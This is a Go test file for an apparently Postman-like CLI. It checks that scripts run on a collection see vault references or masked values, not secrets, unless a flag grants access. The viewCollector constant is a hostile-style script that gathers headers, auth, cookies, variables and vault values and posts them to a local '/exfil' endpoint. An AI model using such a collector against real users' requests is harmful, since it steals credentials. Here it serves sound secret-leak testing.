@@ -1,0 +1,395 @@
+package root
+
+import (
+	"bytes"
+	"context"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/courier-run/courier/cmd/cmdutil"
+	"github.com/courier-run/courier/internal/testenv"
+	"github.com/courier-run/courier/vault"
+)
+
+// viewCanary is the secret the script-view tests plant: quotes, markup,
+// a literal "%2F", a space, "+", "=", "/", "@" and "~", so that each
+// encoding of it differs from the others. No ":" (Basic passwords may not
+// hold one where the user name ends) and no "#" or "?" (URL syntax).
+const viewCanary = `Cv9"Zq&7'Lm%2Fx Rt4+Wn8=Hy3/Jb6@Pd1!K~<>`
+
+// viewCollector runs in every prerequest and test script of the
+// collection: it gathers everything a script can read about the request,
+// its variables and the vault, and sends it to /exfil with pm.sendRequest,
+// as a hostile script would. The server's copy is unmasked, so it shows
+// exactly what the script could see.
+var viewCollector = []string{
+	"const seen = [pm.info.eventName + ' ' + pm.info.requestName];",
+	"const add = (k, f) => { try { seen.push(k + '=' + f()) } catch (e) { seen.push(k + '!' + e.message) } };",
+	"add('json', () => JSON.stringify(pm.request.toJSON()));",
+	"add('url', () => pm.request.url.toString());",
+	"add('qs', () => pm.request.url.getQueryString());",
+	"add('query', () => JSON.stringify(pm.request.url.query.toObject()));",
+	"add('path', () => pm.request.url.getPath());",
+	"add('headers', () => JSON.stringify(pm.request.headers.toObject()));",
+	"add('hdrs', () => pm.request.headers.map(h => h.toString()).join('|'));",
+	"add('auth', () => JSON.stringify(pm.request.auth ? pm.request.auth.toJSON() : null));",
+	"add('authParams', () => JSON.stringify(pm.request.auth ? pm.request.auth.parameters().toObject() : null));",
+	"add('body', () => pm.request.body ? pm.request.body.toString() : '');",
+	"add('legacy', () => JSON.stringify({u: request.url, h: request.headers, d: request.data}));",
+	"add('replaceIn', () => pm.variables.replaceIn('{{vault:canary}} {{token}} <<vault:canary>>'));",
+	"add('vars', () => JSON.stringify(pm.variables.toObject()));",
+	"add('env', () => JSON.stringify(pm.environment.toObject()));",
+	"add('cookies', () => JSON.stringify(pm.cookies.toObject()));",
+	"try { seen.push('vault=' + await pm.vault.get('canary')) } catch (e) { seen.push('vault!' + e.message) }",
+	"await new Promise(done => pm.sendRequest({url: pm.variables.get('base') + '/exfil', method: 'POST',",
+	"  body: {mode: 'raw', raw: seen.join('\\n')}}, () => done()));",
+}
+
+// TestScriptsSeeVaultReferences: without --vault-scripts a script sees
+// {{vault:NAME}} wherever the request carried a vault value (url, headers,
+// auth, body, the legacy request object, replaceIn) and what an auth
+// helper signed with one as ***, while the server gets the value; with
+// --vault-scripts it sees the values, as in Postman's runtime. Each row is
+// one path a secret takes into the request; the script's view is checked
+// at the server it was sent to, unmasked, for the canary in any form.
+func TestScriptsSeeVaultReferences(t *testing.T) {
+	t.Parallel()
+	runVaultView(t, func(t *testing.T) (map[string]string, func()) {
+		return map[string]string{"COURIER_VAULT_CANARY": viewCanary}, func() {}
+	}, "canary")
+}
+
+// TestScriptsSeeVaultReferencesKeyring is the same run with the canary in
+// the real OS keyring (Secret Service under dbus-run-session in CI).
+func TestScriptsSeeVaultReferencesKeyring(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
+	defer cancel()
+	kr := vault.NewKeyring(vault.DefaultService)
+	if _, err := kr.Get(ctx, "courier-probe-that-does-not-exist"); !errors.Is(err, vault.ErrNotFound) {
+		testenv.Keyring(t, err.Error())
+	}
+	name := fmt.Sprintf("courier-view-canary-%d", os.Getpid())
+	require.NoError(t, kr.Set(ctx, name, viewCanary))
+	t.Cleanup(func() { kr.Delete(context.Background(), name) })
+	runVaultView(t, func(t *testing.T) (map[string]string, func()) { return nil, func() {} }, name)
+}
+
+type viewItem struct {
+	name string
+	req  map[string]any
+	// test holds the item's own assertions on what its test script sees
+	// without --vault-scripts.
+	test []string
+	// wire is what the server must have received from this item's request
+	// (the value went out), checked as a substring of the recorded request.
+	wire string
+}
+
+func runVaultView(t *testing.T, source func(*testing.T) (map[string]string, func()), secretName string) {
+	var mu sync.Mutex
+	var wire, exfil bytes.Buffer
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(r.Body)
+		mu.Lock()
+		if r.URL.Path == "/exfil" {
+			exfil.Write(body)
+			exfil.WriteString("\n----\n")
+		} else {
+			fmt.Fprintf(&wire, "%s %s\n", r.Method, r.RequestURI)
+			for k, vs := range r.Header {
+				fmt.Fprintf(&wire, "%s: %s\n", k, strings.Join(vs, ", "))
+			}
+			wire.Write(body)
+			wire.WriteString("\n----\n")
+		}
+		mu.Unlock()
+		switch {
+		case strings.HasPrefix(r.URL.Path, "/digest") && r.Header.Get("Authorization") == "":
+			w.Header().Set("WWW-Authenticate", `Digest realm="view", nonce="n0nce", qop="auth", algorithm="MD5"`)
+			w.WriteHeader(http.StatusUnauthorized)
+			return
+		case strings.HasPrefix(r.URL.Path, "/redirect"):
+			http.Redirect(w, r, "/wire/landed", http.StatusFound)
+			return
+		}
+		// Never an echo: what a server sends back is the server's business.
+		w.Header().Set("Content-Type", "application/json")
+		_, _ = w.Write([]byte(`{"ok":true}`))
+	}))
+	t.Cleanup(srv.Close)
+
+	ref := "{{vault:" + secretName + "}}"
+	sub := func(s string) string { return strings.ReplaceAll(s, "{{vault:canary}}", ref) }
+	kv := func(pairs ...string) []any {
+		var out []any
+		for i := 0; i < len(pairs); i += 2 {
+			out = append(out, map[string]any{"key": pairs[i], "value": sub(pairs[i+1])})
+		}
+		return out
+	}
+	hdr := func(name string) string {
+		return fmt.Sprintf("pm.test('%s reads as the reference', () => pm.expect(pm.request.headers.get('%s')).to.equal('%s'));", name, name, ref)
+	}
+	basicUser := base64.StdEncoding.EncodeToString([]byte("user:" + ref))
+	items := []viewItem{
+		{name: "header", req: map[string]any{"method": "GET", "url": "{{base}}/wire/h", "header": kv("X-Key", "{{vault:canary}}")},
+			test: []string{hdr("X-Key")}, wire: "X-Key: " + viewCanary},
+		{name: "env variable holding a reference", req: map[string]any{"method": "GET", "url": "{{base}}/wire/env", "header": kv("X-Token", "Bearer {{token}}")},
+			test: []string{"pm.test('sees the reference', () => pm.expect(pm.request.headers.get('X-Token')).to.equal('Bearer " + ref + "'));",
+				"pm.test('replaceIn leaves it', () => pm.expect(pm.variables.replaceIn('{{token}}')).to.equal('" + ref + "'));"},
+			wire: "X-Token: Bearer " + viewCanary},
+		{name: "url path and query", req: map[string]any{"method": "GET", "url": "{{base}}/wire/p/{{vault:canary}}?k={{vault:canary}}&plain=1"},
+			test: []string{"pm.test('query reads as the reference', () => pm.expect(pm.request.url.query.get('k')).to.equal('" + ref + "'));",
+				"pm.test('url has it', () => pm.expect(pm.request.url.toString()).to.include('" + ref + "'));"},
+			wire: url.QueryEscape("Cv9\"Zq")},
+		{name: "raw body", req: map[string]any{"method": "POST", "url": "{{base}}/wire/raw",
+			"body": map[string]any{"mode": "raw", "raw": sub(`{"secret":"{{vault:canary}}"}`)}},
+			test: []string{"pm.test('body reads as the reference', () => pm.expect(pm.request.body.raw).to.include('" + ref + "'));"},
+			wire: viewCanary},
+		{name: "urlencoded body", req: map[string]any{"method": "POST", "url": "{{base}}/wire/form",
+			"body": map[string]any{"mode": "urlencoded", "urlencoded": kv("s", "{{vault:canary}}")}},
+			test: []string{"pm.test('field reads as the reference', () => pm.expect(pm.request.body.urlencoded.get('s')).to.equal('" + ref + "'));"},
+			wire: url.QueryEscape("Cv9\"Zq&7")},
+		{name: "formdata body", req: map[string]any{"method": "POST", "url": "{{base}}/wire/multi",
+			"body": map[string]any{"mode": "formdata", "formdata": kv("s", "{{vault:canary}}")}},
+			test: []string{"pm.test('field reads as the reference', () => pm.expect(pm.request.body.formdata.get('s')).to.equal('" + ref + "'));"},
+			wire: viewCanary},
+		{name: "graphql body", req: map[string]any{"method": "POST", "url": "{{base}}/wire/gql",
+			"body": map[string]any{"mode": "graphql", "graphql": map[string]any{"query": "{ q }", "variables": sub(`{"s":"{{vault:canary}}"}`)}}},
+			test: []string{"pm.test('variables read as the reference', () => pm.expect(pm.request.body.graphql.variables).to.include('" + ref + "'));"},
+			wire: "Zq&7"},
+		{name: "basic auth", req: map[string]any{"method": "GET", "url": "{{base}}/wire/basic",
+			"auth": map[string]any{"type": "basic", "basic": kv("username", "user", "password", "{{vault:canary}}")}},
+			test: []string{"pm.test('auth reads as the reference', () => pm.expect(pm.request.auth.parameters().get('password')).to.equal('" + ref + "'));",
+				"pm.test('header is built from the reference', () => pm.expect(pm.request.headers.get('Authorization')).to.equal('Basic " + basicUser + "'));"},
+			wire: "Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte("user:"+viewCanary))},
+		{name: "bearer auth", req: map[string]any{"method": "GET", "url": "{{base}}/wire/bearer",
+			"auth": map[string]any{"type": "bearer", "bearer": kv("token", "{{vault:canary}}")}},
+			test: []string{"pm.test('header reads as the reference', () => pm.expect(pm.request.headers.get('Authorization')).to.equal('Bearer " + ref + "'));"},
+			wire: "Authorization: Bearer " + viewCanary},
+		{name: "api key in query", req: map[string]any{"method": "GET", "url": "{{base}}/wire/apikey",
+			"auth": map[string]any{"type": "apikey", "apikey": kv("key", "api_key", "value", "{{vault:canary}}", "in", "query")}},
+			test: []string{"pm.test('query reads as the reference', () => pm.expect(pm.request.url.query.get('api_key')).to.equal('" + ref + "'));"},
+			wire: "api_key=Cv9"},
+		{name: "digest auth", req: map[string]any{"method": "GET", "url": "{{base}}/digest",
+			"auth": map[string]any{"type": "digest", "digest": kv("username", "user", "password", "{{vault:canary}}")}},
+			test: []string{"pm.test('signed header reads ***', () => pm.expect(pm.request.headers.get('Authorization')).to.equal('***'));"},
+			wire: `Digest username="user"`},
+		{name: "oauth1 plaintext in query", req: map[string]any{"method": "GET", "url": "{{base}}/wire/oauth1",
+			"auth": map[string]any{"type": "oauth1", "oauth1": append(kv("consumerKey", "ck", "consumerSecret", "{{vault:canary}}",
+				"signatureMethod", "PLAINTEXT"), map[string]any{"key": "addParamsToHeader", "value": false})}},
+			test: []string{"pm.test('signature reads ***', () => pm.expect(pm.request.url.query.get('oauth_signature')).to.equal('***'));",
+				"pm.test('the rest stays', () => pm.expect(pm.request.url.query.get('oauth_consumer_key')).to.equal('ck'));"},
+			wire: "GET /wire/oauth1?oauth_consumer_key=ck"},
+		{name: "oauth1 hmac in header", req: map[string]any{"method": "GET", "url": "{{base}}/wire/oauth1h",
+			"auth": map[string]any{"type": "oauth1", "oauth1": append(kv("consumerKey", "ck", "consumerSecret", "{{vault:canary}}",
+				"signatureMethod", "HMAC-SHA1"), map[string]any{"key": "addParamsToHeader", "value": true})}},
+			test: []string{"pm.test('signed header reads ***', () => pm.expect(pm.request.headers.get('Authorization')).to.equal('***'));"},
+			wire: "Authorization: OAuth "},
+		{name: "hawk", req: map[string]any{"method": "GET", "url": "{{base}}/wire/hawk",
+			"auth": map[string]any{"type": "hawk", "hawk": kv("authId", "id1", "authKey", "{{vault:canary}}", "algorithm", "sha256")}},
+			test: []string{"pm.test('signed header reads ***', () => pm.expect(pm.request.headers.get('Authorization')).to.equal('***'));"},
+			wire: "Authorization: Hawk "},
+		{name: "aws sigv4 with a session token", req: map[string]any{"method": "GET", "url": "{{base}}/wire/aws",
+			"auth": map[string]any{"type": "awsv4", "awsv4": kv("accessKey", "AKIDEXAMPLE", "secretKey", "{{vault:canary}}",
+				"region", "us-east-1", "service", "execute-api", "sessionToken", "{{vault:canary}}")}},
+			test: []string{"pm.test('signed header reads ***', () => pm.expect(pm.request.headers.get('Authorization')).to.equal('***'));",
+				"pm.test('session token reads as the reference', () => pm.expect(pm.request.headers.get('X-Amz-Security-Token')).to.equal('" + ref + "'));"},
+			wire: "X-Amz-Security-Token: " + viewCanary},
+		{name: "jwt in query", req: map[string]any{"method": "GET", "url": "{{base}}/wire/jwt",
+			"auth": map[string]any{"type": "jwt", "jwt": kv("algorithm", "HS256", "secret", "{{vault:canary}}",
+				"payload", `{"sub":"x"}`, "addTokenTo", "queryParam", "queryParamKey", "tok")}},
+			test: []string{"pm.test('token reads ***', () => pm.expect(pm.request.url.query.get('tok')).to.equal('***'));"},
+			wire: "tok=eyJ"},
+		{name: "jwt in header", req: map[string]any{"method": "GET", "url": "{{base}}/wire/jwth",
+			"auth": map[string]any{"type": "jwt", "jwt": kv("algorithm", "HS256", "secret", "{{vault:canary}}",
+				"payload", `{"sub":"x"}`, "addTokenTo", "header")}},
+			test: []string{"pm.test('signed header reads ***', () => pm.expect(pm.request.headers.get('Authorization')).to.equal('***'));"},
+			wire: "Authorization: Bearer eyJ"},
+		{name: "redirect", req: map[string]any{"method": "GET", "url": "{{base}}/redirect/{{vault:canary}}"},
+			test: []string{"pm.test('url reads as the reference', () => pm.expect(pm.request.url.toString()).to.include('" + ref + "'));"},
+			wire: "GET /wire/landed"},
+		{name: "sendRequest with a reference", req: map[string]any{"method": "GET", "url": "{{base}}/wire/sr"},
+			test: []string{"await new Promise(d => pm.sendRequest({url: pm.variables.get('base') + '/wire/sent-by-script', header: {'X-Ref': '" + ref + "'}}, () => d()));"},
+			wire: "X-Ref: " + ref},
+	}
+	var list []any
+	for _, it := range items {
+		ev := []any{}
+		if it.test != nil {
+			ev = append(ev, map[string]any{"listen": "test", "script": map[string]any{"exec": it.test}})
+		}
+		list = append(list, map[string]any{"name": it.name, "request": it.req, "event": ev})
+	}
+	collector := make([]string, len(viewCollector))
+	for i, l := range viewCollector {
+		collector[i] = sub(l)
+	}
+	coll := map[string]any{
+		"info": map[string]any{"name": "vault view"},
+		"item": list,
+		"event": []any{
+			map[string]any{"listen": "prerequest", "script": map[string]any{"exec": collector}},
+			map[string]any{"listen": "test", "script": map[string]any{"exec": collector}},
+		},
+	}
+	dir := t.TempDir()
+	cb, err := json.Marshal(coll)
+	require.NoError(t, err)
+	// The secret's name: every reference, pm.vault.get's argument too.
+	named := strings.NewReplacer("vault:canary", "vault:"+secretName, "vault.get('canary')", "vault.get('"+secretName+"')").Replace(string(cb))
+	collPath := writeFile(t, dir, "c.json", named)
+	eb, err := json.Marshal(map[string]any{"name": "view", "values": []any{
+		map[string]any{"key": "base", "value": srv.URL, "enabled": true},
+		map[string]any{"key": "token", "value": ref, "enabled": true},
+	}})
+	require.NoError(t, err)
+	envPath := writeFile(t, dir, "env.json", string(eb))
+	env, cleanup := source(t)
+	defer cleanup()
+
+	forms := canaryForms(viewCanary)
+	for _, mode := range []struct {
+		name    string
+		granted bool
+	}{{"without --vault-scripts", false}, {"with --vault-scripts", true}} {
+		mu.Lock()
+		wire.Reset()
+		exfil.Reset()
+		mu.Unlock()
+		out := filepath.Join(dir, strings.ReplaceAll(mode.name, " ", "_"))
+		require.NoError(t, os.MkdirAll(out, 0o755))
+		ios, _, stdout, stderr := cmdutil.Test()
+		state := t.TempDir()
+		ios.Env = func(k string) string {
+			if k == "COURIER_STATE_DIR" {
+				return state
+			}
+			return env[k]
+		}
+		args := []string{"run", collPath, "-e", envPath, "--color", "off", "--no-persist", "--verbose",
+			"-r", "cli,json,junit,html",
+			"--reporter-json-export", filepath.Join(out, "r.json"), "--reporter-junit-export", filepath.Join(out, "r.xml"),
+			"--reporter-html-export", filepath.Join(out, "r.html"),
+			"--export-environment", filepath.Join(out, "env.json"), "--export-globals", filepath.Join(out, "g.json"),
+			"--export-collection", filepath.Join(out, "c.json"), "--export-cookie-jar", filepath.Join(out, "jar.json")}
+		if mode.granted {
+			args = append(args, "--vault-scripts")
+		}
+		code := Execute(context.Background(), ios, args)
+		mu.Lock()
+		gotWire, gotExfil := wire.String(), exfil.String()
+		mu.Unlock()
+		for _, it := range items {
+			if !strings.Contains(gotWire, it.wire) {
+				t.Errorf("%s, %s: the request did not carry %q", mode.name, it.name, it.wire)
+			}
+		}
+		if !strings.Contains(gotWire, "GET /wire/sent-by-script") || strings.Contains(gotWire, "X-Ref: "+viewCanary) {
+			t.Errorf("%s: pm.sendRequest is sent as the script built it, with the reference", mode.name)
+		}
+		assert.Equal(t, 2*len(items), strings.Count(gotExfil, "\n----\n"), "%s: every script reported its view", mode.name)
+
+		if !mode.granted {
+			if code != cmdutil.ExitOK {
+				t.Errorf("not every reference assertion holds (exit %d):\n%s", code, failuresOf(stdout.String()))
+			}
+			assert.True(t, strings.Contains(gotExfil, "vault!Vault access denied"), "pm.vault.get is denied")
+			for _, f := range forms {
+				if i := strings.Index(gotExfil, f.text); i >= 0 {
+					t.Errorf("a script saw the canary (%s) without --vault-scripts:\n%s", f.name, around(gotExfil, i))
+				}
+			}
+		} else {
+			// The script saw the values, so the check above can fail.
+			assert.True(t, strings.Contains(gotExfil, "vault="+viewCanary), "pm.vault.get gave the value")
+			assert.True(t, strings.Contains(gotExfil, "x-key\":\"Cv9\\\"Zq"), "pm.request.headers gave the value")
+		}
+		outputs := map[string][]byte{"stdout": stdout.Bytes(), "stderr": stderr.Bytes()}
+		entries, err := os.ReadDir(out)
+		require.NoError(t, err)
+		for _, e := range entries {
+			outputs[e.Name()] = mustRead(t, filepath.Join(out, e.Name()))
+		}
+		require.Len(t, outputs, 9, "%s: every report and export was written", mode.name)
+		for name, data := range outputs {
+			for _, f := range forms {
+				if i := bytes.Index(data, []byte(f.text)); i >= 0 {
+					t.Errorf("%s: %s shows the canary (%s):\n%s", mode.name, name, f.name, around(string(data), i))
+				}
+			}
+		}
+	}
+}
+
+type canaryForm struct{ name, text string }
+
+// canaryForms are 12-character pieces of the canary in every form a script
+// or a report could carry it: as is, base64 (also inside Basic
+// credentials), hex, percent-encoded by each encoder, JSON-escaped.
+func canaryForms(s string) []canaryForm {
+	full := map[string]string{
+		"raw":                s,
+		"base64":             base64.StdEncoding.EncodeToString([]byte(s)),
+		"base64url":          base64.RawURLEncoding.EncodeToString([]byte(s)),
+		"basic credentials":  base64.StdEncoding.EncodeToString([]byte("user:" + s)),
+		"hex":                hex.EncodeToString([]byte(s)),
+		"HEX":                strings.ToUpper(hex.EncodeToString([]byte(s))),
+		"query escape":       url.QueryEscape(s),
+		"path escape":        url.PathEscape(s),
+		"encodeURIComponent": strings.NewReplacer("%21", "!", "%27", "'", "%28", "(", "%29", ")", "%2A", "*", "+", "%20").Replace(url.QueryEscape(s)),
+		"lower-case escapes": strings.ToLower(url.QueryEscape(s)),
+		"json":               strings.Trim(mustJSON(s), `"`),
+	}
+	var out []canaryForm
+	seen := map[string]bool{}
+	for name, f := range full {
+		// Pieces from a few places, so a form cut short or embedded in a
+		// longer encoding (Basic, a JWT claim) is still found.
+		for _, at := range []int{0, len(f) / 3, len(f) - 12} {
+			if at < 0 || at+12 > len(f) {
+				continue
+			}
+			p := f[at : at+12]
+			if !seen[p] {
+				seen[p] = true
+				out = append(out, canaryForm{name, p})
+			}
+		}
+	}
+	return out
+}
+
+func mustJSON(v any) string {
+	b, _ := json.Marshal(v)
+	return string(b)
+}
+
+func around(s string, i int) string {
+	lo, hi := max(0, i-200), min(len(s), i+200)
+	return s[lo:hi]
+}
+
+// failuresOf is the failure table at the end of the cli output.
+func failuresOf(out string) string {
+	if i := strings.LastIndex(out, "#  failure"); i >= 0 {
+		return out[i:]
+	}
+	return around(out, len(out)-1)
+}
